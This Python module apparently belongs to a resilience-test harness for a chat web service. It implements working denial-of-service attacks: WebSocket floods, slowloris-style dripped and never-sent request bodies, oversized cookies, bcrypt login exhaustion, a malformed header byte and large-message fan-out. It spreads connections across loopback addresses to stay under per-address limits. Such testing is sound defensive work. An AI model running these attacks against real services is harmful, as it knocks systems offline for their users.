"""Each attack of issue 15 at its size. An attack builds its load, calls
`ctx.during()` (the victim's measurement while the load is on), tears the
load down and returns the victim's sample with what it saw of the server."""

import asyncio
import collections
import contextlib
import dataclasses
import time
import urllib.parse
from collections.abc import Awaitable, Callable

from .http import Answer, Server, connect, exchange, read_answer, request_bytes, upgrade_bytes
from .victim import Sample

OPENING_AT_ONCE = 200


@dataclasses.dataclass
class Context:
    server: Server
    attacker_cookie: str
    cookies: list[str]  # more attacking accounts, for the fan-out and the big page
    login_names: list[str]  # accounts with the service's bcrypt cost, for the login attack
    login_password: str
    stranger_name: str
    big_chat: int  # 300 messages as large as the API stores
    fanout_chat: int  # the attacker and `cookies` are members
    large_chat: int | None  # the attacker alone, with a long history
    sizes: dict
    during: Callable[[], Awaitable[Sample]]  # the victim, for ctx.sizes["hold_secs"]


def sources(count: int, first: int = 10) -> list[str]:
    """`count` loopback addresses for the attacking connections, 127.0.1.x."""
    return [f"127.0.{1 + (first + n) // 250}.{1 + (first + n) % 250}" for n in range(count)]


async def _open(server: Server, source: str, raw: bytes, wait_answer: bool):
    """A connection that sent `raw`: (reader, writer, status or None), or None when refused."""
    try:
        reader, writer = await connect(server, source)
    except OSError:
        return None
    writer.write(raw)
    if not wait_answer:
        return reader, writer, None
    try:
        async with asyncio.timeout(10):
            head = await reader.readuntil(b"\r\n\r\n")
        return reader, writer, int(head.split(b" ", 2)[1])
    except (TimeoutError, OSError, asyncio.IncompleteReadError, ValueError, IndexError):
        writer.close()
        return None


async def open_many(server: Server, raws: list[bytes], *, wait_answer: bool) -> tuple[list, collections.Counter]:
    """Opens a connection per request, OPENING_AT_ONCE at a time, spread over
    many source addresses; the ones still open, and a count by outcome."""
    opened, outcomes = [], collections.Counter()
    addresses = sources(len(raws) // 200 + 1)  # under the per-address caps
    for start in range(0, len(raws), OPENING_AT_ONCE):
        batch = raws[start : start + OPENING_AT_ONCE]
        results = await asyncio.gather(
            *(_open(server, addresses[(start + n) % len(addresses)], raw, wait_answer) for n, raw in enumerate(batch))
        )
        for result in results:
            if result is None:
                outcomes["not answered"] += 1
            elif result[2] in (None, 101):
                opened.append(result)
                outcomes["open" if result[2] is None else "101"] += 1
            else:
                outcomes[str(result[2])] += 1
                result[1].close()
    return opened, outcomes


def close_all(connections: list) -> None:
    for _, writer, _ in connections:
        writer.close()


async def websocket_flood(ctx: Context) -> tuple[Sample, dict]:
    """One account opens as many WebSockets as it can."""
    opened, outcomes = await open_many(ctx.server, [upgrade_bytes(ctx.attacker_cookie)] * ctx.sizes["sockets"],
                                       wait_answer=True)  # fmt: skip
    sample = await ctx.during()
    close_all(opened)
    return sample, {"upgrades": dict(outcomes)}


async def bodies_never_sent(ctx: Context) -> tuple[Sample, dict]:
    """Requests whose declared body never arrives, no account needed."""
    raw = request_bytes("POST", "/api/login", length=1000)
    opened, outcomes = await open_many(ctx.server, [raw] * ctx.sizes["bodyless"], wait_answer=False)
    sample = await ctx.during()
    still_open = sum(1 for reader, _, _ in opened if not reader.at_eof())
    close_all(opened)
    return sample, {"connections": dict(outcomes), "still open at the end": still_open}


async def _drip(server: Server, source: str, every_secs: float, limit_secs: float) -> float:
    """Sends a body a byte at a time; how long the server kept the connection."""
    started = time.monotonic()
    try:
        reader, writer = await connect(server, source)
    except OSError:
        return 0.0
    try:
        writer.write(request_bytes("POST", "/api/login", length=1000))
        while time.monotonic() - started < limit_secs:
            writer.write(b"a")
            await writer.drain()
            with contextlib.suppress(TimeoutError):
                if await asyncio.wait_for(reader.read(4096), every_secs) == b"":
                    break
    except OSError:
        pass
    finally:
        writer.close()
    return time.monotonic() - started


async def slow_bodies(ctx: Context) -> tuple[Sample, dict]:
    """Bodies dripped a byte every 5 s: how long the server keeps them."""
    addresses = sources(ctx.sizes["drips"])
    drips = [asyncio.create_task(_drip(ctx.server, a, 5.0, ctx.sizes["drip_limit_secs"])) for a in addresses]
    sample = await ctx.during()
    lifetimes = await asyncio.gather(*drips)
    return sample, {"connections": len(drips), "longest kept (s)": round(max(lifetimes), 1),
                    "kept to the attack's limit": sum(t >= ctx.sizes["drip_limit_secs"] for t in lifetimes)}  # fmt: skip


async def _read_forever(reader: asyncio.StreamReader) -> int:
    received = 0
    with contextlib.suppress(OSError, asyncio.CancelledError):
        while chunk := await reader.read(65536):
            received += len(chunk)
    return received


async def fan_out(ctx: Context) -> tuple[Sample, dict]:
    """Thousands of sockets in one chat, and large messages sent to it within the rate limit."""
    cookies = [ctx.attacker_cookie, *ctx.cookies]
    raws = [upgrade_bytes(cookies[n % len(cookies)]) for n in range(ctx.sizes["fanout_sockets"])]
    opened, outcomes = await open_many(ctx.server, raws, wait_answer=True)
    readers = [asyncio.create_task(_read_forever(reader)) for reader, _, _ in opened]
    sender = asyncio.create_task(_send_messages(ctx))
    sample = await ctx.during()
    statuses = await sender
    for reader in readers:
        reader.cancel()
    received = sum(await asyncio.gather(*readers))
    close_all(opened)
    return sample, {"upgrades": dict(outcomes), "sends": dict(statuses), "MB delivered": round(received / 1e6, 1)}


async def _send_messages(ctx: Context) -> collections.Counter:
    """`fanout_messages` messages of 4,000 characters over `fanout_secs`."""
    statuses, count = collections.Counter(), ctx.sizes["fanout_messages"]
    body = urllib.parse.urlencode({"content": "m" * 4000}).encode()
    raw = request_bytes("POST", f"/api/chats/{ctx.fanout_chat}", cookie=ctx.attacker_cookie, body=body)
    for _ in range(count):
        statuses[(await exchange(ctx.server, "127.0.0.3", raw, timeout=30)).status] += 1
        await asyncio.sleep(ctx.sizes["fanout_secs"] / count)
    return statuses


async def _loop_requests(server: Server, source: str, raw: bytes, stop: asyncio.Event, statuses: collections.Counter):
    """The same request over and over on one keep-alive connection (a new one when it closes)."""
    while not stop.is_set():
        try:
            reader, writer = await connect(server, source)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        try:
            while not stop.is_set():
                writer.write(raw)
                async with asyncio.timeout(30):
                    statuses[(await read_answer(reader)).status] += 1
        except (OSError, TimeoutError, asyncio.IncompleteReadError, ValueError, IndexError):
            statuses["dropped"] += 1
        finally:
            writer.close()


async def _with_load(ctx: Context, loads: list[tuple[str, bytes]]) -> tuple[Sample, dict]:
    """Runs a request loop per (source, request) while the victim measures."""
    stop, statuses = asyncio.Event(), collections.Counter()
    tasks = [asyncio.create_task(_loop_requests(ctx.server, source, raw, stop, statuses)) for source, raw in loads]
    sample = await ctx.during()
    stop.set()
    await asyncio.wait(tasks, timeout=35)
    return sample, {"attacker's answers": dict(statuses)}


async def big_pages(ctx: Context) -> tuple[Sample, dict]:
    """Members re-reading the largest history page the API will build."""
    cookies = [ctx.attacker_cookie, *ctx.cookies]
    loads = [
        (source, request_bytes("GET", f"/api/chats/{ctx.big_chat}?limit=300", cookie=cookies[n % len(cookies)]))
        for n, source in enumerate(sources(ctx.sizes["page_readers"]))
    ]
    return await _with_load(ctx, loads)


async def big_cookies(ctx: Context) -> tuple[Sample, dict]:
    """Connections sending a 60 kB Cookie header, back to back."""
    raw = request_bytes("GET", "/api/chats", cookie="a=" + "x" * 60_000)
    return await _with_load(ctx, [(source, raw) for source in sources(ctx.sizes["cookie_connections"])])


async def logins(ctx: Context) -> tuple[Sample, dict]:
    """Accounts logging in with their right password, 5 at a time from one
    address; a stranger's login times are measured next to the victim's."""
    def login(name: str) -> bytes:
        return request_bytes("POST", "/api/login", body=urllib.parse.urlencode(
            {"name": name, "password": ctx.login_password}).encode())  # fmt: skip

    loads = [("127.0.0.4", login(ctx.login_names[n % len(ctx.login_names)])) for n in range(5)]
    stranger_before = await _timed_logins(ctx, login(ctx.stranger_name))
    task = asyncio.create_task(_with_load(ctx, loads))
    await asyncio.sleep(1)
    stranger_during = await _timed_logins(ctx, login(ctx.stranger_name))
    sample, facts = await task
    facts["stranger's login (ms), alone / during"] = f"{stranger_before} / {stranger_during}"
    return sample, facts


async def _timed_logins(ctx: Context, raw: bytes, count: int = 3) -> str:
    times = []
    for _ in range(count):
        started = time.perf_counter()
        answer = await exchange(ctx.server, "127.0.0.5", raw, timeout=30)
        times.append(f"{(time.perf_counter() - started) * 1000:.0f}{'' if answer.status == 200 else f' ({answer.status})'}")
    return ", ".join(times)


async def header_byte(ctx: Context) -> tuple[Sample, dict]:
    """`Content-Length: ²` (the byte 0xB2) on several paths, no session."""
    statuses = collections.Counter()
    for path in ("/api/login", "/api/chats", "/api/chats/1", "/nowhere", "/api/ws"):
        raw = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: \xb2\r\n\r\n".encode("latin-1")
        answer: Answer = await exchange(ctx.server, "127.0.0.6", raw)
        statuses["no answer" if answer.status == 0 else str(answer.status)] += 1
    return await ctx.during(), {"answers": dict(statuses)}


async def leave_large_chat(ctx: Context) -> tuple[Sample, dict]:
    """The attacker leaves a chat of a long history they are alone in (its data is deleted)."""
    if ctx.large_chat is None:
        return await ctx.during(), {"skipped": "--large-history 0"}
    raw = request_bytes("DELETE", f"/api/chats?chat_id={ctx.large_chat}", cookie=ctx.attacker_cookie)

    async def leave() -> tuple[int, float]:
        await asyncio.sleep(1)
        started = time.perf_counter()
        answer = await exchange(ctx.server, "127.0.0.3", raw, timeout=30)
        return answer.status, (time.perf_counter() - started) * 1000

    task = asyncio.create_task(leave())
    sample = await ctx.during()
    status, elapsed_ms = await task
    return sample, {"leave": f"{status} in {elapsed_ms:.0f} ms"}


ATTACKS = {
    "websocket-flood": websocket_flood,
    "bodies-never-sent": bodies_never_sent,
    "slow-bodies": slow_bodies,
    "fan-out": fan_out,
    "big-pages": big_pages,
    "logins": logins,
    "big-cookies": big_cookies,
    "header-byte": header_byte,
    "leave-large-chat": leave_large_chat,
}
